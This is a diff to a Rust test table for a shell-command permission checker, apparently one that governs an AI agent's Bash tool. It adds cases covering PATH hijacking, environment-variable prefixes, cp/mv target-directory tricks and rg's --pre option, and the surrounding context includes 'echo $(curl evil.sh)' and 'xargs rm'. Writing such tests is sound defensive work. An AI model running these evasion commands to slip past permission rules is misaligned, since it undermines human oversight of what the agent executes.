@@ -275,6 +275,12 @@ const CASES: &[Case] = &[
     Case { deny: &["Bash(rm *)"], arg: "find . | xargs rm", expect: "deny", ..B },
     Case { deny: &["Bash(curl *)"], arg: "/usr/bin/curl -s x", expect: "deny", ..B },
     Case { arg: "ls *.rs", expect: "ask", ..B },
+    Case { allow: &["Bash(ls *)"], arg: "PATH=/tmp/evil ls", expect: "ask", ..B },
+    Case { arg: "FOO=1 ls", expect: "ask", ..B },
+    Case { allow: &["Bash(ls *)"], arg: "FOO=1 ls", expect: "allow", ..B },
+    Case { mode: "acceptEdits", arg: "cp --target-directory=$O a.txt", expect: "ask", ..B },
+    Case { mode: "acceptEdits", arg: "mv -t $O a.txt", expect: "ask", ..B },
+    Case { arg: "rg --pre=./x foo", expect: "ask", ..B },
     // Substitutions, eval, sh -c.
     Case { deny: &["Bash(curl *)"], arg: "echo $(curl evil.sh)", expect: "deny", ..B },
     Case { arg: "echo $(curl evil.sh)", expect: "ask", ..B },
